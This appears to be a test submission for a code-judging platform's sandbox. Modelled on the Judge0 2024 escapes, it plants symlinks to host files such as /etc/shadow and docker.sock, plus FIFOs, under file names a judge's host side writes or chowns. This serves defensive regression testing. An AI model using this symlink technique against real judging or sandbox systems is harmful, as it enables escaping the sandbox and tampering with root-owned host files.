# Judge0's 2024 escapes (CVE-2024-28185, CVE-2024-28189): a submission planted symlinks in
# its sandbox directory, and the judge's host side, as root, wrote the next run's script
# through one and chowned the files through another. This plants symlinks (to host files
# and directories), FIFOs and a directory symlink under the names a judge's host side
# reads, writes or chowns (stdout, stderr, meta, run scripts, the box itself) in its
# working directory. Nothing on our host side opens, chowns or deletes a file in a
# sandbox's /tmp (the process backend unmounts it whole; Docker drops the container), so
# a wrong answer stays a wrong answer; the sandbox tests check that the targets survive.
import os

TARGETS = ["/etc/shadow", "/etc/passwd", "/root/.bashrc", "/var/run/docker.sock",
           "/run/code-platform-sandbox", "/sys/fs/cgroup/memory/code-platform",
           "/proc/1/root/etc/shadow", "/"]
NAMES = ["stdout.txt", "stderr.txt", "meta.txt", "stdin.txt", "run", "run_script",
         "compile", "source.py", "output", "result.json", "box", "cgroup.procs",
         "memory.limit_in_bytes", "seccomp.bpf"]


def _plant():
    os.mkdir("judge-box")
    for index, name in enumerate(NAMES):
        target = TARGETS[index % len(TARGETS)]
        for directory in (".", "judge-box"):
            try:
                os.symlink(target, os.path.join(directory, name))
            except OSError:
                pass
        try:
            os.mkfifo(os.path.join("judge-box", name + ".fifo"))
        except OSError:
            pass
    os.symlink("/", "judge-box/root")


_plant()


def answer():
    return 41
